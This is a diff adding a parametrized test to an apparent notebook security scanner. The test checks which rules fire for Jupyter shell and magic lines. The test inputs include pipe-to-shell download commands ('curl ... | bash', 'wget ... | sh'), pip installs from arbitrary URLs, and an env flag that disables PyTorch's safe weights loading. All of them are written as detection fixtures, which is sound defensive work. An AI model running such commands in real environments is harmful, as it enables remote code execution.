@@ -8,6 +8,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from zt_gate.scan.code.notebook import MAX_MAGICS, NotebookError, read_notebook
+from zt_gate.scan.code.source import read_unit
 
 
 def notebook(*sources, **changes):
@@ -116,3 +117,23 @@ def test_every_line_has_a_place_and_nothing_else_is_raised(sources):
     assert len(read.lines) == len(read.places)
     assert [cell for cell, _ in read.places] == sorted(cell for cell, _ in read.places)
     assert all(1 <= command.line <= len(read.lines) for command in read.commands)
+
+
+@pytest.mark.parametrize(
+    ("line", "rules"),
+    [
+        ("!ls", {"COD-120"}),
+        ("!pip install numpy", {"COD-120", "COD-123"}),
+        ("%pip install numpy", {"COD-120", "COD-123"}),
+        ("!pip install git+https://example.org/x", {"COD-120", "COD-124"}),
+        ("!pip install --extra-index-url https://example.org/ x", {"COD-120", "COD-124"}),
+        ("!curl -s https://example.org/x.sh | bash", {"COD-120", "COD-124"}),
+        ("%%bash\nwget -qO- https://example.org/x | sh", {"COD-120", "COD-124"}),
+        ("%env TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=1", {"COD-120", "COD-121"}),
+        ("%env TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD=0", {"COD-120"}),
+    ],
+)
+def test_what_a_command_does_is_told(line, rules):
+    cells = [{"cell_type": "code", "source": line}]
+    data = json.dumps({"nbformat": 4, "metadata": {}, "cells": cells}).encode()
+    assert {hit.rule for hit in read_unit("a.ipynb", data).hits()} == rules
